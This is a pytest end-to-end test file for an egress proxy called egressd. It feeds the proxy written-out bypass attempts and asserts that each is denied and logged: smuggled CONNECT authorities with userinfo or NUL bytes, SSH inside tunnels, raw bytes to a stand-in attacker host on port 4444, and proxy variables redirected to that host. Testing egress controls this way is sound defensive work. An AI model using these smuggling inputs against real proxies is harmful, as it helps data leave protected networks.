"""ENG rows: what the machinery does when it breaks, waits, reuses or meets bytes that are no HTTP."""

from __future__ import annotations

import os
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from egressd.gate.inspector import addon
from egressd.lab import topology
from tests.bypass.arena import RULES, Arena, Row, arena
from tests.e2e.conftest import build, until
from tests.gate.inspector.lab import laboratory, run
from tests.gate.inspector.origin import PathOrigin

pytestmark = pytest.mark.e2e

API = "api.lab-origin.com"
EVIL = "www.evil-lab.com"
PINNED = "api.anthropic.com"
BREAKS = """
def requestheaders(flow):
    if "x-break" in flow.request.headers:
        raise RuntimeError("broken by the request")

def responseheaders(flow):
    if "x-break-later" in flow.response.headers:
        raise RuntimeError("broken by the response")
"""


@pytest.fixture(scope="module")
def engine() -> Iterator[Arena]:
    """An arena whose site looks at requests with code that breaks where it is told to."""
    with build(os.geteuid() != 0) as lab:
        breaks = Path(lab.directory, "breaks.py")
        breaks.write_text(BREAKS)
        with arena(lab, rules=RULES, more=f"inspect: {{addons: [{breaks}]}}\n") as made:
            yield made


def proxied(data: bytes, more: str = "") -> str:
    """Code that sends bytes to the explicit proxy."""
    return f"say(shown(proxy({data!r}{more})))"


def connect(authority: bytes, then: bytes = b"") -> str:
    """Code that opens a tunnel and speaks in it."""
    return proxied(b"CONNECT " + authority + b" HTTP/1.1\r\nHost: x\r\n\r\n" + then)


def timed(code: str, seconds: float = 2.0) -> str:
    """Code that says whether it was soon over."""
    return (
        f"began = time.monotonic()\n{code}\nsay('soon' if time.monotonic() - began < {seconds} else 'late')"
    )


_LATER = b"HTTP/1.1 200 OK\r\nX-Break-Later: 1\r\nContent-Length: 2\r\n\r\nok"
BREAKING = [
    Row(
        "ENG-01",
        f"say(shown(tls('{API}', 443, get('/n', head=b'X-Break: 1\\r\\n'), '{API}')))",
        title="a hook that raises on a request",
        wins="200 OK",
        sees=r"502 egressd: denied: .*reason internal_error\)(?!.*broken by)",
        records=(("request", "deny", "internal_error"),),
    ),
    Row(
        "ENG-01",
        f"say(shown(tls('{API}', 443, get('/raw?hex={_LATER.hex()}'), '{API}')))",
        title="a hook that raises on a response",
        wins="200 OK",
        sees=r"502 egressd: .*reason internal_error\)(?!.*broken by)",
        records=(("request", "allow", "rule"), ("request", "end", "internal_error")),
        reaches=(API,),
    ),
    *(
        Row(
            "ENG-01",
            proxied(b"GET http://" + raw + b"/ HTTP/1.1\r\nHost: " + raw + b"\r\nConnection: close\r\n\r\n"),
            title=f"a name that breaks parsers: {raw[:24]!r}",
            moot="the name leads nowhere; what counts is that nothing breaks open",
            sees=r"40[03] egressd: denied",
            records=((layer, "deny", reason),),
        )
        for raw, layer, reason in (
            (b"xn--a.evil-lab.com", "connection", "bad_host"),
            (b"xn--\xc2\x80.evil-lab.com", "connection", "non_ascii_host"),
            (b"\xed\xa0\x80.evil-lab.com", "connection", "non_ascii_host"),
            (b"a" * 64 + b".evil-lab.com", "connection", "bad_host"),
            (b".".join([b"a" * 49] * 5) + b".evil-lab.com", "connection", "bad_host"),
            (b"xn--999999b.xn--999999b.evil-lab.com", "connection", "bad_host"),
        )
    ),
]

_NOT_HTTP = [
    Row(
        "ENG-03",
        connect(b"api.lab-origin.com:22", b"SSH-2.0-x\r\n"),
        title="SSH in a tunnel to port 22",
        wins="SSH-2.0-lab",
        sees="^HTTP/1.1 200 (?!.*SSH-2.0-lab)",
        records=(("connection", "deny", "port_not_allowed"),),
        shows={"detail": re.compile("^first bytes 5353482d322e30")},
    ),
    Row(
        "ENG-03",
        connect(b"api.lab-origin.com:443", b"SSH-2.0-x\r\n"),
        title="SSH in a tunnel to port 443",
        moot="the origin speaks TLS there",
        sees="^HTTP/1.1 200 (?!.*SSH-2.0-lab)",
        records=(("connection", "deny", "unknown_protocol"),),
        shows={"detail": re.compile("^first bytes 5353482d322e30"), "host": API},
    ),
    Row(
        "ENG-03",
        timed(f"say(shown(tcp('{API}', 22, read=5, seconds=4)))", 3.5),
        title="a server that would speak first",
        wins="SSH-2.0-lab",
        sees="^(?!.*SSH-2.0-lab).*soon",
        records=(("connection", "deny", "port_not_allowed"),),
        note="nobody waits for the server: the connection is refused after two seconds of silence",
    ),
    Row(
        "ENG-03",
        timed(f"say(shown(tcp('{API}', 443, bytes(range(1, 20)))))"),
        title="bytes that are nothing",
        moot="the origin speaks TLS there",
        sees="soon",
        records=(("connection", "deny", "unknown_protocol"),),
        shows={"detail": re.compile("^first bytes 010203")},
    ),
    Row(
        "ENG-03",
        timed("say(shown(tcp('www.evil-lab.com', 4444, bytes(range(1, 20)), read=1)))"),
        title="bytes that are nothing, to the attacker",
        wins="o",
        sees="soon",
        records=(("connection", "deny", "unknown_protocol"),),
        shows={"port": 4444},
    ),
]


def post(fields: bytes, body: str, close: bool = True) -> str:
    """Code that sends a POST to a path to which none is allowed."""
    data = f"get('/forbidden', method='POST', head={fields!r}, body={body}, close={close})"
    return f"say(shown(tls('{API}', 443, {data}, '{API}')))"


_ALL = "b'x' * 300000"
UPLOADS = [
    Row(
        "ENG-06",
        code,
        title=title,
        wins='"n": 300000',
        sees=r"403 egressd: denied: .*reason method_not_allowed",
        records=(("request", "deny", "method_not_allowed"),),
        shows={"event": "end", "layer": "request", "bytes_up": 0},
    )
    for title, code in (
        ("an upload to a denied path", post(b"Content-Length: 300000\r\n", _ALL)),
        (
            "an upload in chunks to a denied path",
            post(b"Transfer-Encoding: chunked\r\n", rf"b'493e0\r\n' + {_ALL} + b'\r\n0\r\n\r\n'"),
        ),
    )
] + [
    Row(
        "ENG-17",
        timed(post(fields, "b'x' * 10000", close=False)),
        title=title,
        moot="the origin waits for the rest",
        sees="403 egressd: denied: (?!.*100 Continue).*soon",
        records=(("request", "deny", "method_not_allowed"),),
    )
    for title, fields in (
        ("a denied upload of 2 GB that stops", b"Content-Length: 2000000000\r\n"),
        ("a denied upload in chunks that stops", b"Transfer-Encoding: chunked\r\n"),
        ("a denied upload that asks first", b"Content-Length: 2000000000\r\nExpect: 100-continue\r\n"),
    )
]

_SILENT = """
sock = socket.create_connection({to}, 3)
sock.settimeout(3)
{first}
time.sleep(0.4)
sock.close()
say('connected')
"""
EAGER = [
    Row(
        "ENG-07",
        _SILENT.format(
            to="('127.0.0.1', 3128)",
            first="sock.sendall(b'CONNECT www.evil-lab.com:443 HTTP/1.1\\r\\n\\r\\n')\nsay(shown(sock.recv(4096)))",
        ),
        title="a tunnel to the attacker in which nothing is said",
        wins="200 naive.*connected",
        sees="200 .*connected",
        records=(("connection", "deny", "not_allowed"),),
        shows={"host": EVIL, "port": 443},
    ),
    Row(
        "ENG-07",
        _SILENT.format(to="('11.6.6.6', 443)", first=""),
        title="a connection to the attacker in which nothing is said",
        wins="connected",
        sees="connected",
        records=(("connection", "deny", "ip_literal"),),
        shows={"address": "11.6.6.6"},
    ),
    Row(
        "ENG-07",
        _SILENT.format(to="('www.evil-lab.com', 443)", first="sock.sendall(hello('www.evil-lab.com')[:40])"),
        title="half a hello to the attacker",
        wins="connected",
        sees="connected",
        records=(("connection", "deny", "unknown_protocol"),),
    ),
]

UNREADABLE = [
    Row(
        "ENG-08",
        code,
        title=title,
        moot="these rows ask for a record of what no hook sees",
        sees=f"400 egressd: denied: .*reason {reason}",
        records=(("connection", "deny", reason),),
        decisions=1,
    )
    for title, reason, code in (
        ("user information", "userinfo_in_authority", connect(b"api.lab-origin.com:443@evil-lab.com:443")),
        ("a NUL", "bad_host", connect(b"evil-lab.com\0.lab-origin.com:443")),
        ("port 0", "bad_port", connect(b"api.lab-origin.com:0")),
        ("no port", "bad_port", connect(b"api.lab-origin.com")),
        ("254 bytes of host", "bad_host", connect(b".".join([b"a" * 50] * 5) + b":443")),
        ("half a head", "bad_request", proxied(b"GET http://evil-lab.com/\r\n\r\n")),
    )
]

LOOPS = [
    Row(
        "ENG-09",
        "say(shown(tcp('mitm.it', 80, get('/cert/pem', 'mitm.it'))))",
        title="the engine's magic host",
        zone={"mitm.it": {"a": [topology.ATTACKER]}},
        wins="owned",
        sees="403 egressd: denied: no rule(?!.*CERTIFICATE)",
        records=(("request", "deny", "not_allowed"),),
    ),
    Row(
        "ENG-09",
        "say(shown(tcp('www.lab-origin.com', 80, get('/cert/pem', 'mitm.it'))))",
        title="the engine's magic host on another's connection",
        wins="200 OK",
        sees="403 egressd: denied: .*authority_mismatch(?!.*CERTIFICATE)",
        records=(("request", "deny", "authority_mismatch"),),
    ),
    *(
        Row(
            "ENG-10",
            connect(authority, b"GET /n HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
            title=f"a tunnel to {authority.decode()}",
            wins=wins,
            moot="nothing of egressd is there where there is no egressd",
            sees="403 egressd: denied",
            records=(("connection", "deny", reason), ("request", "deny", reason)),
        )
        for authority, reason, wins in (
            (b"127.0.0.1:3128", "floor_loopback", "200 naive"),
            (b"[::1]:15001", "floor_loopback", None),
            (b"localhost:3128", "floor_name", "200 naive"),
            (b"198.18.0.254:3128", "floor_own_address", None),
            (b"198.18.0.3:8081", "floor_own_address", None),
            (b"egressd.internal:3128", "port_not_allowed", None),
            (b"11.0.0.2:443", "ip_literal", None),
        )
    ),
    Row(
        "ENG-10",
        "for port in (15001, 15053):\n    say(port, shown(tcp('127.0.0.1', port, get())))",
        title="the listeners themselves",
        moot="nothing of egressd listens where there is no egressd",
        sees="15001 (?!.*200 OK)",
        records=(("connection", "deny", "no_original_dst"),),
    ),
    Row(
        "ENG-10",
        "say(shown(tcp('own.lab-origin.com', 443, get(host='own.lab-origin.com'))))\n"
        "say(shown(tls('own.lab-origin.com', 443, get(host='own.lab-origin.com'), 'own.lab-origin.com')))",
        title="an allowed name that leads to the machine of egressd",
        zone={"own.lab-origin.com": {"a": [topology.HOST[0]]}},
        moot="only the machine of egressd has a way to itself; a witness listens there",
        sees="403 egressd: denied: egressd's own host",
        records=(("request", "allow", "rule"), ("request", "end", "floor_own_address")),
        asks=("own.lab-origin.com",),
    ),
]

CHANGED = [
    Row(
        "ENG-13",
        f"say(shown(tls('{API}', 443, get(host={host!r}), '{API}')))",
        title=f"Host {host} on a connection to port 443",
        wins="200 OK",
        sees="403 egressd: denied: .*authority_mismatch",
        records=(("request", "deny", "authority_mismatch"),),
    )
    for host in (f"{API}:8443", f"{API}:80", "11.6.6.6", "[2600:6:6::6]")
] + [
    Row(
        "ENG-15",
        "sock = socket.socket()\nsock.settimeout(3)\nsock.bind(('11.0.0.99', 0))\n"
        "sock.connect((socket.gethostbyname('www.lab-origin.com'), 80))\n"
        "sock.sendall(get(host='www.lab-origin.com'))\nsay(sock.getsockname()[0], shown(receive(sock)))",
        title="a client with an address that looks public",
        moot="an address of nobody's is no use on a wire",
        sees=r"11\.0\.0\.99 HTTP/1.1 200 OK",
        records=(("request", "allow", "rule"),),
        reaches=("www.lab-origin.com",),
    ),
    Row(
        "ENG-16",
        "for port in (3128, 15001, 443, 51820):\n    say(shown(udp('127.0.0.1', port, b'\\x16\\xfe\\xfd' + bytes(40), 0.3)))\n"
        "say('bound', sorted({int(line.split()[1].rpartition(':')[2], 16) for name in ('udp', 'udp6')"
        " for line in list(open('/proc/net/' + name))[1:]}))",
        title="no datagram but DNS is listened for",
        moot="nothing of egressd listens where there is no egressd",
        sees=r"(.*Error.*\n){4}bound \[15053\]",
        records=(),
    ),
]


@pytest.mark.parametrize(
    "row", [*BREAKING, *_NOT_HTTP, *UPLOADS, *EAGER, *UNREADABLE, *LOOPS, *CHANGED], ids=str
)
def test_the_engine_lets_nothing_slip(engine: Arena, row: Row) -> None:
    engine.holds(row)


def test_a_decision_that_raises_is_a_denial(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """ENG-01: whatever the policy raises, the request stays denied and is recorded."""

    def broken(*_: object) -> Any:
        raise UnicodeError("label empty or too long")

    monkeypatch.setattr(addon, "decide", broken)

    async def test() -> None:
        origin = PathOrigin()
        async with laboratory(origin) as lab:
            client = await lab.dial()
            answer = await client.ask("GET /x")
            assert (answer.status, answer.headers["x-egressd-reason"]) == (502, "internal_error")
            await client.over()
            assert origin.heads == b""
            assert [record.reason for record in lab.records.of("decision")] == ["internal_error"]

    run(test())
    assert "UnicodeError" in capsys.readouterr().err


def ports(arena: Arena) -> dict[str, set[str]]:
    """The peers that an origin saw, by path."""
    seen: dict[str, set[str]] = {}
    for request in arena.lab.requests(API):
        seen.setdefault(request.path, set()).add(request.peer)
    return seen


def test_sandboxes_share_no_connection_upstream(engine: Arena) -> None:
    """ENG-11: each sandbox, and each of its connections, has an upstream of its own."""
    engine.lab.forget()
    both = (
        "with socket.create_connection(('{0}', 443), 3) as raw:\n"
        "    sock = ssl._create_unverified_context().wrap_socket(raw, server_hostname='{0}')\n"
        "    sock.settimeout(3)\n"
        "    for _ in range(2):\n"
        "        sock.sendall(get('/id{1}', close=False))\n        got = b''\n"
        "        while not got.endswith(b'/id{1}'):\n            got += sock.recv(4096)\n        say(shown(got))\n"
    )
    for driver, number in ((engine.a, 1), (engine.b, 2), (engine.a, 3)):
        assert driver.run(both.format(API, number)).count("200 OK") == 2
    seen = ports(engine)
    assert [len(seen[f"/id{number}"]) for number in (1, 2, 3)] == [1, 1, 1]
    assert len(seen["/id1"] | seen["/id2"] | seen["/id3"]) == 3


def test_a_stale_upstream_is_never_given_half_a_request(engine: Arena) -> None:
    """ENG-11: the origin closes between two requests; the second one goes by a new connection, once, or is refused."""
    mark = len(engine.stand.records())
    engine.lab.forget()
    said = engine.a.run(
        f"with socket.create_connection(('{API}', 443), 3) as raw:\n"
        f"    sock = ssl._create_unverified_context().wrap_socket(raw, server_hostname='{API}')\n"
        "    sock.settimeout(3)\n"
        "    sock.sendall(get('/closeafter', close=False))\n    say(shown(sock.recv(4096)))\n"
        "    time.sleep(0.3)\n"
        "    sock.sendall(get('/upload', method='POST', head=b'Content-Length: 5\\r\\n', body=b'hello'))\n"
        "    say(shown(receive(sock)))"
    )
    assert re.search('200 OK.*(200 OK.*"n": 5|502 egressd: upstream error)', said, re.S), said
    assert len(engine.lab.requests(API, "/upload")) <= 1
    until(
        lambda: (
            sum(r.get("path") == "/upload" and r["event"] == "end" for r in engine.stand.records()[mark:])
            == 1
        ),
        what="one end of the upload",
    )
    engine.life_goes_on()


def test_a_tunnel_has_its_ends_in_the_journal(engine: Arena) -> None:
    """ENG-12: a tunnel is told when it opens and when it ends, with its bytes and the reason, however it ends."""
    open_ = (
        f"raw = socket.create_connection(('{PINNED}', 443), 3)\n"
        f"sock = ssl._create_unverified_context().wrap_socket(raw, server_hostname='{PINNED}')\n"
    )
    for code, reason in (
        (
            f"sock.sendall(get('/big?bytes=3000000', host='{PINNED}'))\nsay(len(receive(sock, 4000000)))",
            "completed",
        ),
        (
            f"sock.sendall(get('/big?bytes=200000000', host='{PINNED}'))\nsay(len(receive(sock, 1000000)))\n"
            "os.kill(os.getpid(), 9)",
            "client_closed",
        ),
    ):
        mark = len(engine.stand.records())
        engine.a.run(open_ + code)

        def ended(mark: int = mark) -> list[dict[str, Any]]:
            return [
                r
                for r in engine.stand.records()[mark:]
                if r["event"] == "end" and r["layer"] == "connection" and r.get("host") == PINNED
            ]

        until(ended, what="the end of the tunnel")
        (end,) = ended()
        assert end["reason"] == reason, end
        assert end["bytes_down"] >= 1_000_000
        assert end["bytes_up"] > 100
        assert end["duration_ms"] > 0
    engine.life_goes_on()


def test_a_proxy_in_the_environment_of_egressd_is_nobody_to_it(engine: Arena) -> None:
    """ENG-14: variables that point clients elsewhere move neither egressd nor the command."""
    engine.lab.forget()
    variables = dict.fromkeys(
        ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY"),
        "http://www.evil-lab.com:3128",
    )
    code = (
        "import os, urllib.request, ssl\n"
        "print(sorted(name for name in os.environ if 'proxy' in name.lower() and 'evil' in os.environ[name]))\n"
        f"print(urllib.request.urlopen('https://{API}/n').status)"
    )
    done = engine.stand.run(["/usr/bin/python3", "-c", code], env=variables)
    assert done.stdout.splitlines() == ["[]", "200"], (done.stdout, done.stderr[-2000:])
    assert [request.host for request in engine.lab.requests()] == [API]
    engine.nothing_reached((API,))
